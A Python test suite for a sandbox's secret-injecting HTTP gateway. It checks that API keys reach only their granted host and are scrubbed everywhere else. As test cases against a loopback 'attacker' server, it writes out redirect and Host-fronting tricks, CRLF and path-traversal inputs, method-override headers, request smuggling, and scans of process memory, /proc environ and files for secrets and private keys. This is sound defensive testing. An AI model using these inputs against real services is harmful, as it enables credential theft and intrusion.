#!/usr/bin/env python3
"""Secrets that the gateway adds: they arrive where they are for, and are nowhere else. Speaks TAP. The servers are on loopback,
with certificates of a private authority that the policy names; one is the attacker's."""
import base64
import json
import os
import pathlib
import shutil
import socket
import subprocess
import sys
import urllib.parse

sys.path.insert(0, str(pathlib.Path(__file__).parents[1]))
import peers
from scratch import scratch
from tap import claim, finish

program = os.environ["CORDON"]
folder = scratch("secrets")
folder.chmod(0o755)  # packages are read by the user of the cell
SECRET = "sk/test+" + os.urandom(12).hex() + "=Z"
OTHER = "other-" + os.urandom(12).hex()
environment = {**os.environ, "XDG_STATE_HOME": str(folder / "state"), "WEATHER_KEY": SECRET}
private = peers.authority(folder)
granted = peers.Peer("the secret's host", peers.context(folder, private, ["DNS:localhost", "IP:127.0.0.1"]))
impostor = peers.Peer("the impostor", peers.context(folder, peers.authority(folder, "stranger"), ["DNS:localhost"], "imposture"))
misnamed = peers.Peer("the misnamed", peers.context(folder, private, ["DNS:elsewhere.example"], "misnamed"))
attacker = peers.Peer("the attacker")
plain = peers.Peer("the plain host")
(folder / "key").write_text(OTHER + "\n")
(folder / "sub").mkdir()

POLICY = f"""
extends: agent
grants:
  - net: 127.0.0.1:{attacker.port}
gateway: {{ca: ./authority.pem}}
secrets:
  weather: {{from: {{env: WEATHER_KEY}}, host: "https://localhost:{granted.port}", header: "Authorization: Bearer {{}}",
            placeholder: WEATHER_KEY}}
  narrow: {{from: {{file: ./key}}, host: "127.0.0.1:{granted.port}", header: "X-Key: {{}}", paths: [/v1, /v2/*], methods: [GET, HEAD]}}
  query: {{from: {{command: [sh, -c, "cat {folder}/key"]}}, host: "localhost:{granted.port}", query: appid}}
  basic: {{from: {{file: ./key}}, host: "localhost:{granted.port}", basic: user}}
  impostor: {{from: {{file: ./key}}, host: "localhost:{impostor.port}", header: "X-Key: {{}}"}}
  misnamed: {{from: {{file: ./key}}, host: "localhost:{misnamed.port}", header: "X-Key: {{}}"}}
  plain: {{from: {{file: ./key}}, host: "http://127.0.0.1:{plain.port}", header: "X-Key: {{}}"}}
"""
(folder / "policy.yaml").write_text(POLICY)

PRELUDE = f"""
import base64, json, os, socket, ssl, sys, time, urllib.request, urllib.error
GRANTED, ATTACKER = {granted.port}, {attacker.port}
A = f"127.0.0.1:{{ATTACKER}}"
W = "weather.cordon.internal"
def get(url, headers={{}}, context=None, **more):
    try:
        answer = urllib.request.urlopen(urllib.request.Request(url, headers=headers, **more), timeout=8, context=context)
        return f"{{answer.status}} {{answer.read().decode('latin-1')}} {{answer.headers.get('X-Echo') or ''}}"
    except urllib.error.HTTPError as error:
        return f"{{error.code}} {{error.read().decode('latin-1')}}"
    except Exception as error:
        return repr(error)
def raw(*parts):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=12)
    try:
        for part in parts: s.sendall(part)
        answer = b""
        while got := s.recv(65536): answer += got
        return answer.decode("latin-1")
    except OSError as error:
        return repr(error)
    finally:
        s.close()
def head(method, target, host, *headers):
    return "".join([f"{{method}} {{target}} HTTP/1.1\\r\\n", f"Host: {{host}}\\r\\n", *[h + "\\r\\n" for h in headers], "\\r\\n"]).encode()
"""


def cell(code, *options, name="program.py", policy="policy.yaml", more=None):
    path = folder / name
    path.write_text((PRELUDE if name.endswith(".py") else "") + code)
    path.chmod(0o644)
    done = subprocess.run([program, "run", "--gate", "warn", "--format", "json", "--timeout", "40s", "--policy", folder / policy, *options,
                           path], env={**environment, **(more or {})}, capture_output=True, text=True, timeout=120,
                          stdin=subprocess.DEVNULL)
    assert SECRET not in done.stdout + done.stderr and OTHER not in done.stdout + done.stderr, done.stdout
    return json.loads(done.stdout)




def said(record):
    return record["result"]["stdout"] + record["result"]["stderr"]


def last(peer=granted):
    return peer.requests[-1] if peer.requests else ("", "", [], b"")


def header(name, peer=granted):
    return [v for n, v in last(peer)[2] if n.lower() == name]


# Where it is for.
record = cell("print(get(f'http://{W}/now'))")
claim("an endpoint: the secret arrives", header("authorization") == ["Bearer " + SECRET], (record, last()))
claim("an endpoint: the answer comes back", "200 this is the secret's host: GET 0" in said(record), record)
told = record["result"]["network"]["connections"][0]
claim("the record names the secret, its host and address", told["secret"] == "weather" and told["host"] == "weather.cordon.internal" and
      told["address"] == "127.0.0.1" and told["decision"] == "allow", told)
claim("the server is asked by its own name", header("host") == [f"localhost:{granted.port}"], last())
record = cell("print(get(f'http://localhost:{GRANTED}/now'))")
claim("the real host by plain HTTP to the proxy", header("authorization") == ["Bearer " + SECRET] and "200" in said(record), record)
record = cell("print(get('http://localhost/now'))")
claim("the real host without its port", header("authorization") == ["Bearer " + SECRET] and "200" in said(record), record)
record = cell("print(get(f'http://{W}/now', {'Authorization': 'Bearer mine'}))")
claim("the program's own field is replaced", header("authorization") == ["Bearer " + SECRET], last())
record = cell("print(get('http://narrow.cordon.internal/v1/x?y=z'))")
claim("a secret from a file", header("x-key") == [OTHER] and last()[1] == "/v1/x?y=z", (record, last()))
record = cell("print(get('http://query.cordon.internal/now?appid=mine&q=1&%61ppid=again;appid=x'))")
claim("a secret from a command, in the query", last()[1] == f"/now?q=1&appid={OTHER}", (record, last()))
record = cell("print(get('http://query.cordon.internal'))")
claim("a query without a path", last()[1] == f"/?appid={OTHER}", (record, last()))
record = cell("print(get('http://basic.cordon.internal/now'))")
claim("basic", header("authorization") == ["Basic " + base64.b64encode(f"user:{OTHER}".encode()).decode()], (record, last()))
record = cell("print(get(f'http://plain.cordon.internal/now'))")
claim("plain HTTP to this machine, where the policy says so", header("x-key", plain) == [OTHER], (record, last(plain)))
record = cell("print(get(f'http://{W}/now', data=b'x' * 300000))")
claim("a body goes with it", last()[0] == "POST" and last()[3] == b"x" * 300000 and "POST 300000" in said(record), said(record))
record = cell("print(raw(head('POST', f'http://{W}/now', W, 'Transfer-Encoding: chunked'), b'3\\r\\nabc\\r\\n', b'0\\r\\n\\r\\n'))")
claim("a body in chunks goes with it", last()[3] == b"abc" and "200 OK" in said(record), said(record))
record = cell("print(get(f'http://{W}/now', method='HEAD'))")
claim("HEAD", last()[0] == "HEAD" and "200" in said(record), said(record))
record = cell("print(get(f'http://{W}/interim'))")
claim("an interim answer is passed over", "200 this is" in said(record), said(record))
record = cell("print(get(f'http://{W}/until-end'))")
claim("an answer without a length", "200 without a length: ***" in said(record), said(record))
record = cell("print(raw(f'GET http://{W}/until-end HTTP/1.0\\r\\n\\r\\n'.encode()))")
claim("a client that is too old for chunks", "without a length: ***" in said(record) and "chunked" not in said(record), said(record))
record = cell("import os\nprint(os.environ['WEATHER_KEY'])\nprint(get(f'http://{W}/now', {'Authorization': 'Bearer ' + os.environ['WEATHER_KEY']}))")
claim("a placeholder is replaced in its field", "cordon-placeholder-" in said(record) and header("authorization") == ["Bearer " + SECRET], said(record))

# Where it is not for.
K = "os.environ['WEATHER_KEY']"
for what, code, wanted in (
    ("another host by its own name", "get(f'http://{A}/now')", "200 this is the attacker"),
    ("a redirect to the attacker", "get(f'http://{W}/redirect?to=http://{A}/stolen')", "200 this is the attacker"),
    ("a placeholder to the wrong host", f"get(f'http://{{A}}/now', {{'Authorization': 'Bearer ' + {K}}})", "403"),
    ("a placeholder in the target of another host", f"get(f'http://{{A}}/now?key=' + {K})", "403"),
    ("a placeholder in another field", f"get(f'http://{{W}}/now', {{'X-Other': {K}}})", "403"),
    ("a placeholder in the path", f"get(f'http://{{W}}/' + {K})", "403"),
    ("a placeholder in the query", f"get(f'http://{{W}}/now?key=' + {K})", "403"),
    ("a placeholder for another secret", f"get('http://narrow.cordon.internal/v1', {{'X-Key': {K}}})", "another secret"),
    ("a placeholder in a body", f"get(f'http://{{W}}/now', data=b'x' * 70000 + {K}.encode())", "where no secret goes"),
    ("a placeholder in a body to the attacker", f"get(f'http://{{A}}/now', data={K}.encode())", ""),
    ("a placeholder over the borders of chunks", f"raw(head('POST', f'http://{{W}}/now', W, 'Transfer-Encoding: chunked'), "
     f"*[b'1\\r\\n%c\\r\\n' % b for b in {K}.encode()], b'0\\r\\n\\r\\n')", "where no secret goes"),
    ("fronting: another Host", "raw(head('GET', f'http://{W}/now', A))", "400"),
    ("fronting: the endpoint as Host", "raw(head('GET', f'http://{A}/now', W))", "400"),
    ("userinfo before the attacker", "raw(head('GET', f'http://{W}@{A}/now', A))", "400"),
    ("userinfo before the endpoint", "raw(head('GET', f'http://{A}@{W}/now', W))", "400"),
    ("CR LF in the path", "raw(f'GET http://{W}/now\\r\\nX: y HTTP/1.1\\r\\nHost: {W}\\r\\n\\r\\n'.encode())", "400"),
    ("TRACE", "raw(head('TRACE', f'http://{W}/now', W))", "not for this method"),
    ("a method in small letters", "raw(head('trace', f'http://{W}/now', W))", "not for this method"),
    ("a tunnel to an endpoint", "raw(head('CONNECT', f'{W}:443', f'{W}:443'))", "no such endpoint"),
    ("a tunnel to an endpoint's port", "raw(head('CONNECT', f'{W}:80', f'{W}:80'))", "plain requests"),
    ("a tunnel to the secret's host", "raw(head('CONNECT', f'localhost:{GRANTED}', f'localhost:{GRANTED}'))", "not granted"),
    ("https to the secret's host", "get(f'https://localhost:{GRANTED}/now')", "Tunnel connection failed: 403"),
    ("the secret's host by its number", "get(f'http://127.0.0.1:{GRANTED}/now')", "not granted"),
    ("another port of the secret's host", "get(f'http://localhost:{ATTACKER}/now')", "not granted"),
    ("an endpoint that is not there", "get('http://none.cordon.internal/')", "no such endpoint"),
    ("an endpoint below another", "get(f'http://x.{W}/')", "no such endpoint"),
    ("an endpoint that goes on", "get(f'http://{W}.evil.example/')", "not granted"),
    ("an endpoint's other port", "get(f'http://{W}:8080/')", "no such endpoint"),
    ("a path that is not the secret's", "get('http://narrow.cordon.internal/admin')", "not for this path"),
    ("a path that begins alike", "get('http://narrow.cordon.internal/v1x')", "not for this path"),
    ("dot segments", "raw(head('GET', 'http://narrow.cordon.internal/v1/../admin', 'narrow.cordon.internal'))", "two ways"),
    ("encoded dot segments", "get('http://narrow.cordon.internal/v1/%2e%2E/admin')", "two ways"),
    ("an encoded slash", "get('http://narrow.cordon.internal/v1/..%2fadmin')", "two ways"),
    ("a backslash", "get('http://narrow.cordon.internal/v1/..\\\\admin')", "two ways"),
    ("an empty segment", "get('http://narrow.cordon.internal//v1')", "two ways"),
    ("a path's parameter", "get('http://narrow.cordon.internal/v1/..;/admin')", "two ways"),
    ("a method that is not the secret's", "get('http://narrow.cordon.internal/v1', data=b'x')", "not for this method"),
    ("another method by a header", "get('http://narrow.cordon.internal/v1', {'X-HTTP-Method-Override': 'DELETE'})", "another method"),
    ("another path by a header", "get('http://narrow.cordon.internal/v1', {'X-Original-URL': '/admin'})", "another method or path"),
    ("a server with a stranger's certificate", "get('http://impostor.cordon.internal/')", "502"),
    ("a server with another's name", "get('http://misnamed.cordon.internal/')", "502"),
    ("a second request behind the first", "raw(head('GET', f'http://{W}/now', W) + head('GET', f'http://{A}/stolen', A))", "200"),
    ("a server that changes the protocol", "get(f'http://{W}/upgrade')", "502"),
    ("a server with two lengths", "get(f'http://{W}/two-lengths')", "502"),
    ("a server that stops before its time", "get(f'http://{W}/short')", ""),
    ("a compressed answer", "get(f'http://{W}/gzip')", "502"),
):
    record = cell(f"print({code})")
    claim(what, wanted in said(record), said(record))
    told = record["result"].get("network", {}).get("connections", [])
    claim(f"{what}: on record", told and all("secret" not in t or t["host"] != "127.0.0.1" for t in told), told)
claim("the attacker never had a secret nor a placeholder", SECRET not in attacker.text() and OTHER not in attacker.text() and
      "cordon-placeholder" not in attacker.text(), attacker.text())
claim("no impostor was asked anything", not impostor.requests and not misnamed.requests)
claim("no other path was asked with the narrow secret", all("admin" not in r[1] for r in granted.requests))

# Servers that give it back.
for path in ("echo", "base64", "base64-within", "percent", "percent-all", "hex", "json", "escaped", "html", "upper", "in-header", "chunks",
             "slow", "until-end"):
    record = cell(f"print(get(f'http://{{W}}/{path}'))")
    text = said(record)
    known = [SECRET, SECRET.upper(), urllib.parse.quote(SECRET, safe=""), SECRET.encode().hex(), SECRET.replace("/", "\\/"),
             base64.b64encode(SECRET.encode()).decode()[:20], base64.b64encode(b"ab" + SECRET.encode()).decode()[4:24], SECRET[4:16]]
    claim(f"given back: {path}", "200" in text and "***" in text and not any(k in text for k in known), text)
    claim(f"given back: {path}: on record", record["result"]["network"]["connections"][0].get("scrubbed", 0) >= 1, record["result"])
record = cell("print(get('http://query.cordon.internal/echo'))")
claim("given back: a target", "***" in said(record) and OTHER not in said(record), said(record))
record = cell("print(get(f'http://{W}/echo', {'Range': 'bytes=0-3', 'Accept-Encoding': 'gzip'}))")
claim("no part and no coding is asked for", not header("range") and header("accept-encoding") == ["identity"], last())

# Nowhere in the cell.
SEARCH = """
found = []
# The programme's own search words must not be what it finds: they come turned around.
words = [bytes(reversed(bytes.fromhex(w))) for w in %r]
answer = get(f'http://{W}/echo'), get('http://narrow.cordon.internal/v1')
def look(where, data):
    found.extend(where for w in words if w in data)
for path in ('/proc/self/environ', '/proc/self/cmdline', '/proc/1/environ', '/proc/1/cmdline', '/proc/self/auxv'):
    try: look(path, open(path, 'rb').read())
    except OSError: pass
for place, _, names in os.walk('/'):
    if place.startswith('/proc'): continue
    for n in names:
        try:
            path = os.path.join(place, n)
            if os.path.isfile(path) and os.path.getsize(path) < 1 << 20: look(path, open(path, 'rb').read())
        except OSError: pass
seen = 0
mem = open('/proc/self/mem', 'rb', 0)
del words
import gc; gc.collect()
turned = [bytes.fromhex(w) for w in %r]
for line in open('/proc/self/maps'):
    area, mode = line.split()[:2]
    if 'r' not in mode or '[v' in line: continue
    start, end = (int(x, 16) for x in area.split('-'))
    try:
        mem.seek(start); data = mem.read(end - start)
    except OSError: continue
    seen += len(data)
    back = data[::-1]
    found.extend('memory ' + line for w in turned if w in back)
print('seen', seen > 1000000, 'found', found)
"""
words = [SECRET.encode()[::-1].hex(), OTHER.encode()[::-1].hex()]
record = cell(SEARCH.replace("%r", repr(words)))
claim("it is nowhere in the cell: variables, files, memory, /proc", "seen True found []" in said(record), said(record))
record = cell("import os\nmine = bytes.fromhex(%r).decode()\n" % SECRET.encode().hex() + SEARCH.replace("%r", repr(words)))
claim("the search finds one that is there", "found ['memory" in said(record), said(record))
everything = b"".join(p.read_bytes() for p in (folder / "state").rglob("*") if p.is_file())
claim("it is not in the log, its name is", SECRET.encode() not in everything and OTHER.encode() not in everything and
      b'"secret":"weather"' in everything, everything[-800:])

# In the process that serves, too: only in memory that is locked and left out of dumps.
(folder / "wait.py").write_text(PRELUDE + """
for path in ('now', 'echo', 'chunks', 'gzip', 'short'): get(f'http://{W}/{path}')
get('http://query.cordon.internal/echo'); get('http://basic.cordon.internal/now'); get('http://narrow.cordon.internal/v1')
print('ready', flush=True); sys.stdin.readline()
""")
run = subprocess.Popen([program, "run", "--gate", "warn", "--timeout", "60s", "--policy", folder / "policy.yaml", folder / "wait.py"],
                       env=environment, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
ready = run.stdout.readline()
areas, flags = [], {}
for line in pathlib.Path(f"/proc/{run.pid}/smaps").read_text().splitlines():
    if line.startswith("VmFlags:"):
        flags[areas[-1]] = line.split()[1:]
    elif "-" in line.split()[0] and ":" not in line.split()[0]:
        areas.append(line)
where, is_sanitized = [], "CORDON_IS_SANITIZED" in os.environ  # a sanitizer's memory is terabytes, and has copies
with open(f"/proc/{run.pid}/mem", "rb", 0) as memory:
    for area in areas if not is_sanitized else []:
        start, end = (int(x, 16) for x in area.split()[0].split("-"))
        if "r" not in area.split()[1] or "[v" in area:
            continue
        try:
            memory.seek(start)
            data = memory.read(end - start)
        except OSError:
            continue
        for word in (SECRET.encode(), OTHER.encode(), base64.b64encode(f"user:{OTHER}".encode())[8:-4], urllib.parse.quote(OTHER).encode()):
            if word in data:
                at = data.find(word)
                where.append((area, flags[area], data[max(0, at - 48):at + 8]))
variables = pathlib.Path(f"/proc/{run.pid}/environ").read_bytes()
run.communicate("\n")
claim("in the process that serves it is found", ready == "ready\n" and (is_sanitized or any("lo" in f for _, f, _ in where)), where)
claim("and only in memory that is locked and left out of dumps", all("lo" in f and "dd" in f for _, f, _ in where), where)
claim("its variables have it no more", SECRET.encode() not in variables, variables)

# The services and the library on the same policy.
CODE = "import urllib.request\nprint(urllib.request.urlopen('http://weather.cordon.internal/echo').read())\n"
call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {
    "name": "run_code", "arguments": {"language": "python", "code": CODE},
    "_meta": {"io.modelcontextprotocol/protocolVersion": "2026-07-28", "io.modelcontextprotocol/clientCapabilities": {}}}}
service = subprocess.Popen([program, "mcp", "--policy", folder / "policy.yaml"], env=environment, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, text=True)
before = len(granted.requests)
answers = []
for _ in range(2):  # the second is served from what was kept
    service.stdin.write(json.dumps(call) + "\n")
    service.stdin.flush()
    answers.append(service.stdout.readline())
variables = pathlib.Path(f"/proc/{service.pid}/environ").read_bytes()
service.communicate()
claim("mcp: the secret is added, in each run", len(granted.requests) == before + 2 and header("authorization") == ["Bearer " + SECRET] and
      all("****" in a and SECRET not in a for a in answers), answers)
claim("mcp: its own variables have it no more", SECRET.encode() not in variables and b"PATH=" in variables, variables)
if os.environ.get("CORDON_LIBRARY"):
    before = len(granted.requests)
    code = f"""
import sys
sys.path.insert(0, {str(pathlib.Path(__file__).resolve().parent.parent.parent / 'bindings/python')!r})
import cordon
result = cordon.run({CODE!r}, policy={str(folder / 'policy.yaml')!r})
print(result.stdout, result.details["network"])
"""
    done = subprocess.run([sys.executable, "-c", code], env=environment, capture_output=True, text=True, timeout=60)
    claim("library: the secret is added and taken out of the answer", len(granted.requests) == before + 1 and "****" in done.stdout and
          "'secret': 'weather'" in done.stdout and SECRET not in done.stdout + done.stderr, done)

# A grant of some methods.
READS = f"""
extends: agent
grants:
  - net: "127.0.0.1:{plain.port} methods GET,HEAD"
"""
(folder / "reads.yaml").write_text(READS)
G = f"127.0.0.1:{plain.port}"
for what, code, wanted in (
    ("GET", f"get('http://{G}/now')", "200 this is the plain host: GET"),
    ("HEAD", f"get('http://{G}/now', method='HEAD')", "200"),
    ("POST", f"get('http://{G}/now', data=b'x')", "not granted for this method"),
    ("DELETE", f"get('http://{G}/now', method='DELETE')", "not granted for this method"),
    ("small letters", f"raw(head('delete', 'http://{G}/now', '{G}'))", "not granted for this method"),
    ("another method by a header", f"get('http://{G}/now', {{'X-Method-Override': 'DELETE'}})", "another method"),
    ("a tunnel", f"raw(head('CONNECT', '{G}', '{G}'))", "within a tunnel"),
):
    before = len(plain.requests)
    record = cell(f"print({code})", policy="reads.yaml")
    claim(f"read-only: {what}", wanted in said(record) and (wanted.startswith("200") or len(plain.requests) == before), said(record))

# A host in a network of its own.
name = socket.gethostname()
try:
    leads = socket.gethostbyname(name)
except OSError:
    leads = ""
if leads:
    for what, address, wanted in (("without its address", "", "must be granted itself"), ("with another's", ", address: 10.99.99.99", "must be granted itself"),
                                  ("with its address", f", address: ['{leads}', '::1', '127.0.0.1', '127.0.1.1']", "200 this is the private host")):
        private_peer = peers.Peer("the private host", peers.context(folder, private, [f"DNS:{name.lower()}"], "inner"), host=leads)
        (folder / "inner.yaml").write_text(f"""
gateway: {{ca: ./authority.pem}}
secrets:
  inner: {{from: {{env: WEATHER_KEY}}, host: "{name}:{private_peer.port}", header: "X-Key: {{}}"{address}}}
""")
        record = cell("print(get('http://inner.cordon.internal/now'))", policy="inner.yaml")
        claim(f"a private network: {what}", wanted in said(record), said(record))

# The clients that people use, each against the secret's host, the granted one and the attacker.
NODE = f"""
const http = require('http');
const get = (url) => new Promise((done) => http.get(url, (r) => {{
  let text = ''; r.on('data', (c) => text += c); r.on('end', () => done(`${{r.statusCode}} ${{text}}`));
}}).on('error', (e) => done(e.message)));
(async () => {{
  const fetched = (url, more) => fetch(url, more).then(async (r) => `${{r.status}} ${{await r.text()}}`, (e) => String(e.cause || e));
  console.log('fetch', await fetched('http://weather.cordon.internal/echo'));
  console.log('post', await fetched('http://weather.cordon.internal/now', {{method: 'POST', body: 'abc', headers: {{authorization: 'Bearer ' + process.env.WEATHER_KEY}}}}));
  console.log('http', await get('http://localhost/now'));
  console.log('wrong', await fetched('http://127.0.0.1:{attacker.port}/now', {{headers: {{authorization: process.env.WEATHER_KEY}}}}));
  console.log('tls', await fetched('https://localhost:{granted.port}/now'));
  console.log('chunks', await fetched('http://weather.cordon.internal/chunks'));
}})();
"""
record = cell(NODE, name="program.js")
lines = dict(line.split(" ", 1) for line in record["result"]["stdout"].splitlines() if " " in line)
for word, wanted in {"fetch": "200 ***", "post": "200 this is the secret's host: POST 3", "http": "200 this is the secret's host", "wrong": "403",
                     "tls": "Error: the gateway refuses", "chunks": "200 before ***"}.items():
    claim(f"Node: {word}", lines.get(word, "").startswith(wanted), record["result"])
CURL = """
import subprocess
def curl(*words): return subprocess.run(['curl', '-sS', '-w', ' %{http_code}', *words], capture_output=True, text=True)
print('one', curl('http://weather.cordon.internal/now'))
print('echo', curl('http://weather.cordon.internal/echo'))
print('attacker', curl('-H', 'X-Key: ' + os.environ['WEATHER_KEY'], f'http://{A}/now'))
print('socket', curl('--noproxy', '*', f'http://{A}/now'))
print('follow', curl('-L', 'http://weather.cordon.internal/redirect?to=http://127.0.0.1:%d/x' % GRANTED))
"""
if pathlib.Path("/usr/bin/curl").exists():
    record = cell(CURL, "--allow-exec", "curl")
    text = dict(line.split(" ", 1) for line in record["result"]["stdout"].splitlines() if " " in line)
    for word, wanted in {"one": "this is the secret's host: GET 0 200", "echo": "*** 200", "attacker": " 403", "socket": "returncode=7",
                         "follow": " 403"}.items():
        claim(f"curl: {word}", wanted in text.get(word, ""), record["result"])
packages = folder / "packages"
packages.mkdir()
for name in ("requests", "urllib3", "certifi", "chardet", "idna", "six.py", "charset_normalizer"):
    found = pathlib.Path("/usr/lib/python3/dist-packages") / name
    if found.is_dir():
        shutil.copytree(found, packages / name, ignore=shutil.ignore_patterns("__pycache__"))
    elif found.exists():
        shutil.copy(found, packages / name)
record = cell("""
import requests
print('one', requests.get('http://weather.cordon.internal/now').text)
print('session', requests.Session().post(f'http://localhost:{GRANTED}/now', data='abc').text)
print('bearer', requests.get('http://weather.cordon.internal/echo', headers={'Authorization': 'Bearer ' + os.environ['WEATHER_KEY']}).text)
print('attacker', requests.get(f'http://{A}/now', headers={'Authorization': os.environ['WEATHER_KEY']}).status_code)
print('follow', requests.get(f'http://{W}/redirect?to=http://{A}/stolen').text)
""", "--packages", packages)
text = dict(line.split(" ", 1) for line in record["result"]["stdout"].splitlines() if " " in line)
for word, wanted in {"one": "this is the secret's host: GET 0", "session": "this is the secret's host: POST 3", "bearer": "***", "attacker": "403",
                     "follow": "this is the attacker"}.items():
    claim(f"requests: {word}", text.get(word, "").startswith(wanted), record["result"])
claim("the attacker still has nothing", SECRET not in attacker.text() and "cordon-placeholder" not in attacker.text(), attacker.text()[-2000:])

# TLS that the gateway ends itself, for clients that speak nothing else.
TLS = f"""
extends: agent
gateway: {{ca: ./authority.pem, intercept: ["localhost:{granted.port}", "127.0.0.1:{granted.port}", "localhost:{impostor.port}", "127.0.0.1:{plain.port}"]}}
grants:
  - net: ["127.0.0.1:{granted.port} methods GET,HEAD", "localhost:{impostor.port}", "127.0.0.1:{attacker.port}"]
secrets:
  weather: {{from: {{env: WEATHER_KEY}}, host: "localhost:{granted.port}", header: "Authorization: Bearer {{}}", paths: [/now, /echo, /chunks],
            methods: [GET, POST], placeholder: WEATHER_KEY}}
"""
(folder / "tls.yaml").write_text(TLS)
H, N = f"https://localhost:{granted.port}", f"https://127.0.0.1:{granted.port}"
for what, code, wanted in (
    ("the secret is added", f"get('{H}/now')", "200 this is the secret's host: GET"),
    ("a body", f"get('{H}/now', data=b'x' * 100000)", "200 this is the secret's host: POST 100000"),
    ("what comes back is searched", f"get('{H}/echo')", "200 ***"),
    ("in chunks", f"get('{H}/chunks')", "200 before ***"),
    ("a placeholder in its place", f"get('{H}/now', {{'Authorization': {K}}})", "200"),
    ("a placeholder in another", f"get('{H}/now', {{'X-Other': {K}}})", "403"),
    ("another path", f"get('{H}/other')", "403"),
    ("another method", f"get('{H}/now', method='DELETE')", "403"),
    ("another host's name within", f"get('{H}/now', {{'Host': 'evil.example'}})", "400"),
    ("a granted host without a secret", f"get('{N}/gzip')", "200"),
    ("a granted host reads only", f"get('{N}/now', data=b'x')", "not granted for this method"),
    ("its method by a header", f"get('{N}/now', {{'X-HTTP-Method-Override': 'PUT'}})", "another method"),
    ("its placeholder", f"get('{N}/now', {{'Authorization': {K}}})", "where no secret goes"),
    ("a server with a stranger's certificate", f"get('https://localhost:{impostor.port}/now')", "502"),
    ("a host that is intercepted and not granted", f"get('https://127.0.0.1:{plain.port}/now')", "403"),
    ("a client that trusts nobody", f"get('{H}/now', context=ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT))", "CERTIFICATE_VERIFY_FAILED"),
    ("no TLS in the tunnel", f"raw(head('CONNECT', 'localhost:{granted.port}', 'localhost:{granted.port}'), head('GET', '/now', 'localhost'))", ""),
    ("bytes behind the head", f"raw(head('CONNECT', 'localhost:{granted.port}', 'localhost:{granted.port}') + b'x')", "bytes behind"),
    ("a host that is not intercepted", f"raw(head('CONNECT', A, A), head('GET', '/now', A, 'Connection: close'))", "this is the attacker"),
):
    before = len(granted.requests)
    record = cell(f"print({code})", policy="tls.yaml")
    told = (record["result"]["network"]["connections"] or [{"none": record}])[-1]
    claim(f"intercepted: {what}", wanted in said(record) and (wanted[:3] in ("200", "") or len(granted.requests) == before) and
          told.get("intercepted", False) != ("attacker" in wanted), (said(record), told))
    if what == "the secret is added":
        claim("intercepted: it arrives", header("authorization") == ["Bearer " + SECRET] and told["secret"] == "weather" and told["method"] == "GET",
              (last(), told))
NODE_TLS = f"""
(async () => {{
  const fetched = (url, more) => fetch(url, more).then(async (r) => `${{r.status}} ${{await r.text()}}`, (e) => String(e.cause || e));
  console.log('fetch', await fetched('{H}/echo'));
  console.log('post', await fetched('{H}/now', {{method: 'POST', body: 'abc'}}));
  console.log('path', await fetched('{H}/other'));
}})();
"""
record = cell(NODE_TLS, name="program.js", policy="tls.yaml")
lines = dict(line.split(" ", 1) for line in record["result"]["stdout"].splitlines() if " " in line)
for word, wanted in {"fetch": "200 ***", "post": "200 this is the secret's host: POST 3", "path": "403"}.items():
    claim(f"intercepted: Node: {word}", lines.get(word, "").startswith(wanted), record["result"])
record = cell("import requests\nprint('one', requests.get('" + H + "/echo').text)", "--packages", packages, policy="tls.yaml")
claim("intercepted: requests", "one ***" in said(record), said(record))
if pathlib.Path("/usr/bin/curl").exists():
    record = cell("import subprocess\nprint(subprocess.run(['curl', '-sS', '" + H + "/echo'], capture_output=True, text=True))", "--allow-exec",
                  "curl", policy="tls.yaml")
    claim("intercepted: curl", "stdout='***" in said(record), said(record))
record = cell(SEARCH.replace("%r", repr(words)).replace("http://{W}/echo", H + "/echo"), policy="tls.yaml")
claim("intercepted: it is nowhere in the cell", "seen True found []" in said(record), said(record))
record = cell("""
found = []
for place, _, names in os.walk('/'):
    if place.startswith('/proc'): continue
    for n in names:
        try:
            path = os.path.join(place, n)
            if os.path.isfile(path) and os.path.getsize(path) < 1 << 20 and b'PRIVATE KEY--' in open(path, 'rb').read() and '/usr/' not in path and path != sys.argv[0]: found.append(path)
        except OSError: pass
print('keys', found, 'authority', 'BEGIN CERT' in open(os.environ['SSL_CERT_FILE']).read())
""", policy="tls.yaml")
claim("intercepted: the authority's certificate is in the cell and its key is not", "keys [] authority True" in said(record), said(record))

# What is shown without running.
for words in (["policy", "show"], ["policy", "show", "--format", "json"], ["spec", folder / "program.py"],
              ["spec", "--format", "json", folder / "program.py"]):
    done = subprocess.run([program, *words, "--policy", folder / "policy.yaml"], env=environment, capture_output=True, text=True, timeout=60)
    claim(f"{words[0]} {' '.join(map(str, words[1:3]))}: the secret is not shown", done.returncode == 0 and SECRET not in done.stdout and
          OTHER not in done.stdout and "WEATHER_KEY" in done.stdout, done)
done = subprocess.run([program, "policy", "show", "--policy", folder / "policy.yaml"], env=environment, capture_output=True, text=True)
(folder / "shown.yaml").write_text(done.stdout.replace(f"{folder}/./", "./"))
done = subprocess.run([program, "policy", "check", folder / "shown.yaml"], env=environment, capture_output=True, text=True)
claim("what policy show prints is a policy", done.returncode == 0, done)

# What a request would become.
def shown(*words):
    done = subprocess.run([program, "secrets", *words, "--policy", folder / "policy.yaml"], env=environment, capture_output=True, text=True)
    assert SECRET not in done.stdout + done.stderr and OTHER not in done.stdout + done.stderr
    return done.returncode, done.stdout + done.stderr


status, text = shown("list")
claim("secrets list: each with its source, host and form", status == 0 and "variable WEATHER_KEY (there)" in text and
      "as      Authorization: Bearer {}" in text and "for     https://127.0.0.1" in text and "below /v1 /v2/*" in text, text)
for url, wanted in (("http://weather.cordon.internal/a?b=c", ("GET /a?b=c HTTP/1.1", "Authorization: Bearer ********", f"Host: localhost:{granted.port}")),
                    ("http://query.cordon.internal/a?appid=x", ("GET /a?appid=******** HTTP/1.1",)),
                    ("http://basic.cordon.internal/", ("Authorization: Basic ********\n",)),
                    (f"http://localhost:{granted.port}/a", ("Authorization: Bearer ********",))):
    status, text = shown("test", url)
    claim(f"secrets test {url.split('/')[2].split(':')[0]}: masked", status == 0 and all(w in text for w in wanted), text)
for words, code, wanted in ((("http://narrow.cordon.internal/admin",), 1, "refused: the secret is not for this path"),
                            (("http://narrow.cordon.internal/v1", "--method", "POST"), 1, "not for this method"),
                            (("http://elsewhere.example/",), 1, "no secret is for this request"),
                            (("https://localhost/",), 2, "not an http URL")):
    status, text = shown("test", *words)
    claim(f"secrets test {words}", status == code and wanted in text, text)

# The check knows the endpoints.
